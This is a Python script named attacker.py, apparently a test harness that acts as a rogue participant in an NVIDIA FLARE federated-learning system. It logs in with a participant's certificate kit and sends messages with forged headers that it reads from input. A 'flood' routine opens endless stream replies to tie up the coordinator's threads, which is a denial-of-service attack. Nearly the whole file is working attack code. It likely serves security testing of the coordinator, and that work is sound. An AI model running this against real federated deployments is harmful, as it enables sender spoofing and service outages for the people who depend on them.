"""A participant with a manipulated program: it logs in with a kit, and then sends what it likes.

    python attacker.py KIT NAME HOST:PORT

Each line of its input is a message as JSON: `channel`, `topic`, `target`, `body`, `headers` to
forge, `seconds` to wait, and whether it is sent `plain`, in one part. For each it prints the code
of the reply, and the size of the reply's body. It logs in when it reads `"login"`, and keeps that
log-in, whatever happens to the coordinator. It begins `flood` answers that never end.
"""

import json
import sys
import time
from pathlib import Path

from nvflare.apis.fl_constant import ReservedKey
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import Shareable
from nvflare.apis.signal import Signal
from nvflare.apis.utils.decomposers import flare_decomposers
from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.cellnet.defs import CellChannel, MessageHeaderKey
from nvflare.fuel.f3.drivers.driver_params import DriverParams
from nvflare.fuel.f3.message import Message
from nvflare.fuel.f3.streaming.stream_const import (
    STREAM_CHANNEL,
    STREAM_DATA_TOPIC,
    StreamDataType,
    StreamHeaderKey,
)
from nvflare.fuel.sec.authn import set_add_auth_headers_filters
from nvflare.private.defs import ClientType
from nvflare.private.fed.authenticator import Authenticator


def main(kit, name, place):
    flare_decomposers.register()
    startup = kit / "startup"
    files = {
        DriverParams.CA_CERT.value: str(startup / "rootCA.pem"),
        DriverParams.CLIENT_CERT.value: str(startup / "client.crt"),
        DriverParams.CLIENT_KEY.value: str(startup / "client.key"),
    }
    cell = Cell(
        fqcn=name,
        root_url=f"grpc://{place}",
        secure=True,
        credentials=files,
        create_internal_listener=False,
        parent_url=None,
        auth_identity_map={"server": "localhost"},
    )
    cell.start()
    forged: dict[str, str] = {}

    def forge(message):
        message.headers.update(forged)

    for line in sys.stdin:
        said = json.loads(line)
        if said == "login":
            print(json.dumps(log_in(cell, name, files)), flush=True)
            # After the filters that write the sender into each message.
            cell.core_cell.add_outgoing_request_filter("*", "*", forge)
            continue
        if "flood" in said:
            flood(cell, said["flood"])
            print(json.dumps(["sent", said["flood"]]), flush=True)
            continue
        forged.clear()
        forged.update(said.get("headers", {}))
        body = said.get("body")
        peer = Shareable()
        peer.set_peer_context(FLContext())
        send = cell.core_cell.send_request if said.get("plain") else cell.send_request
        reply = send(
            channel=said["channel"],
            topic=said["topic"],
            target=said["target"],
            request=Message({}, peer if body is None else body.encode()),
            timeout=said.get("seconds", 5),
        )
        size = len(reply.payload) if isinstance(reply.payload, bytes | bytearray) else 0
        print(json.dumps([reply.get_header(MessageHeaderKey.RETURN_CODE), size]), flush=True)


def flood(cell, count):
    """Begin many answers that never end; the coordinator has a thread for each that it takes."""
    for number in range(count):
        headers = {
            StreamHeaderKey.CHANNEL: CellChannel.RETURN_ONLY,
            StreamHeaderKey.TOPIC: "jigsaw:fragment",
            StreamHeaderKey.STREAM_ID: 10**6 + number,
            StreamHeaderKey.STREAM_REQ_ID: f"request {number}",
            StreamHeaderKey.SEQUENCE: 0,
            StreamHeaderKey.SIZE: 10**6,
            StreamHeaderKey.DATA_TYPE: StreamDataType.CHUNK,
            StreamHeaderKey.PAYLOAD_ENCODING: "bytes",
        }
        part = Message(headers, b"x")
        cell.core_cell.fire_and_forget(STREAM_CHANNEL, STREAM_DATA_TOPIC, "server", part)


def log_in(cell, name, files):
    authenticator = Authenticator(
        cell=cell,
        project_name="jigsaw",
        client_name=name,
        client_type=ClientType.REGULAR,
        expected_sp_identity="localhost",
        secure_mode=True,
        root_cert_file=files[DriverParams.CA_CERT.value],
        private_key_file=files[DriverParams.CLIENT_KEY.value],
        cert_file=files[DriverParams.CLIENT_CERT.value],
        msg_timeout=5.0,
        retry_interval=1.0,
        timeout=60.0,
    )
    context = FLContext()
    context.set_public_props({ReservedKey.IDENTITY_NAME: name})
    while not cell.core_cell.agents:
        time.sleep(0.1)
    try:
        token, signature, ssid, _ = authenticator.authenticate(context, Signal())
    except Exception as error:
        return ["refused", str(error)[:200]]
    set_add_auth_headers_filters(cell, name, token, signature, ssid)
    return ["ok", token]


if __name__ == "__main__":
    main(Path(sys.argv[1]), sys.argv[2], sys.argv[3])
